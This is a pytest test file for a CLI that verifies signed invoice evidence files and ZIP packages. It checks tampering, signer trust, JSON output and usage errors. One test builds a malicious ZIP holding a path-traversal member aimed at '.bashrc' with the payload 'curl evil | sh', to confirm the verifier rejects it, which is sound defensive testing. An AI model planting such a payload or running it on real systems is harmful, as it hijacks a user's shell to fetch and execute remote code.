"""`hashinsight verify`, as a user runs it: exit 0 valid, 1 invalid (each problem printed), 2 usage;
on real evidence files and ZIP packages (the app in-process, and once the installed console script)."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from gateway.cli import app
from gateway.energy.evidence import build_evidence, input_from_bytes
from gateway.site_key import load_or_create_site_key
from shared.signing import SigningKey

KEY = SigningKey.generate()
INVOICE = b"line,kwh,amount_usd\nenergy,1234.5,98.76\n"
HASHINSIGHT = shutil.which("hashinsight", path=str(Path(sys.executable).parent)) or "hashinsight"


def evidence() -> bytes:
    return build_evidence(
        subject="invoice INV-1",
        period={"from": 1714521600, "to": 1717200000},
        inputs=[input_from_bytes("meter.csv", b"ts,kwh\n", "meter export")],
        outputs={"invoice.csv": INVOICE},
        generated_at=1717200900,
        site_id="site-1",
        key=KEY,
        notice="Draft; no payment feature exists.",
    )


@pytest.fixture
def export(tmp_path: Path) -> Path:
    (tmp_path / "invoice.csv").write_bytes(INVOICE)
    (tmp_path / "evidence.json").write_bytes(evidence())
    return tmp_path / "evidence.json"


def run(*args: str | Path) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["verify", *map(str, args)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


def test_valid_evidence_says_what_was_checked(export: Path) -> None:
    code, out = run(export)
    assert code == 0
    assert out.splitlines() == [
        f"VALID: {export}",
        f"  signed by {KEY.key_id} (not checked against a trusted key; "
        "pass --trusted-key to prove who signed)",
        "  output 'invoice.csv': OK",
        "  input 'meter.csv': not present, not checked",
    ]
    code, out = run(export, "--trusted-key", KEY.public_key_b64)
    assert code == 0 and f"signed by {KEY.key_id} (a trusted key)" in out


def test_a_tampered_output_exits_1_and_names_it(export: Path) -> None:
    (export.parent / "invoice.csv").write_bytes(INVOICE.replace(b"98.76", b"9.76"))
    code, out = run(export)
    assert code == 1
    assert out.splitlines()[0] == f"INVALID: {export}"
    assert "  problem: output 'invoice.csv': content differs from the signed hash" in out


def test_another_signer_fails_against_the_trusted_key(export: Path) -> None:
    code, out = run(export, "--trusted-key", SigningKey.generate().public_key_b64)
    assert code == 1 and f"problem: signed by {KEY.key_id}, which is not one of the trusted keys" in out


def test_json_output(export: Path) -> None:
    (export.parent / "invoice.csv").unlink()
    code, out = run(export, "--json")
    assert code == 1
    assert json.loads(out) == {
        "file": str(export),
        "ok": False,
        "key_id": KEY.key_id,
        "trusted_keys_checked": False,
        "checked_files": [],
        "checked_inputs": [],
        "inputs_not_present": ["meter.csv"],
        "problems": ["output 'invoice.csv': missing (it should sit beside the evidence)"],
    }


def test_a_zip_package_and_one_with_a_traversal_member(tmp_path: Path) -> None:
    good = tmp_path / "dispute.zip"
    with zipfile.ZipFile(good, "w") as archive:
        archive.writestr("evidence.json", evidence())
        archive.writestr("invoice.csv", INVOICE)
    code, out = run(good)
    assert code == 0 and "output 'invoice.csv': OK" in out
    evil = tmp_path / "evil.zip"
    shutil.copy(good, evil)
    with zipfile.ZipFile(evil, "a") as archive:
        archive.writestr("../../home/user/.bashrc", b"curl evil | sh")
    code, out = run(evil)
    assert code == 1
    assert "problem: ZIP member '../../home/user/.bashrc' has an unsafe path" in out


@pytest.mark.parametrize("content", [b"", b"garbage", b"{", b"\xff\xfe", b"PK\x03\x04junk"])
def test_garbage_exits_1_without_a_traceback(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "evidence.json"
    path.write_bytes(content)
    code, out = run(path)
    assert code == 1 and out.startswith("INVALID") and "Traceback" not in out


def test_usage_errors_exit_2(export: Path) -> None:
    code, out = run(export, "--trusted-key", "not-a-key")
    assert code == 2 and "--trusted-key 'not-a-key' is not a base64 Ed25519 public key" in out
    assert len([line for line in out.splitlines() if line.strip()]) == 1
    assert run(export.parent / "missing.json")[0] == 2
    assert run(export.parent)[0] == 2  # a directory
    assert run()[0] == 2


def test_the_installed_console_script(export: Path) -> None:
    done = subprocess.run(
        [HASHINSIGHT, "verify", str(export), "--trusted-key", KEY.public_key_b64],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert f"VALID: {export}" in done.stdout
    (export.parent / "invoice.csv").write_bytes(b"tampered")
    done = subprocess.run(
        [HASHINSIGHT, "verify", str(export)], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 1 and "output 'invoice.csv': content differs" in done.stdout
    assert "Traceback" not in done.stderr


def test_site_key_prints_what_verify_trusts(tmp_path: Path) -> None:
    """`hashinsight site-key` prints the public key that makes `verify --trusted-key` pass."""
    exe = str(Path(sys.executable).with_name("hashinsight"))
    out = subprocess.run(
        [exe, "site-key", "--data-dir", str(tmp_path)], capture_output=True, text=True, check=True
    )
    lines = dict(line.split(":", 1) for line in out.stdout.splitlines())
    key = load_or_create_site_key(tmp_path)
    assert lines["public key"].strip() == key.public_key_b64
    assert lines["key id"].strip() == key.key_id


def test_an_input_beside_the_evidence_is_checked_and_a_changed_one_named(export: Path) -> None:
    """Finding B: inputs are hashes, but when the input file travels with the evidence it must match."""
    meter = export.parent / "meter.csv"
    meter.write_bytes(b"ts,kwh\n")
    code, out = run(export)
    assert code == 0 and "  input 'meter.csv': OK" in out
    meter.write_bytes(b"ts,kwh\n1714521600,0.1\n")
    code, out = run(export, "--json")
    report = json.loads(out)
    assert code == 1 and report["checked_inputs"] == [] and report["inputs_not_present"] == []
    assert report["problems"][0].startswith("input 'meter.csv': content differs from the signed hash")
    # the same in a ZIP package: a changed input member makes it invalid
    package = export.parent / "package.zip"
    with zipfile.ZipFile(package, "w") as archive:
        archive.writestr("evidence.json", export.read_bytes())
        archive.writestr("invoice.csv", INVOICE)
        archive.writestr("meter.csv", b"ts,kwh\n1714521600,0.1\n")
    code, out = run(package)
    assert code == 1 and "problem: input 'meter.csv': content differs" in out
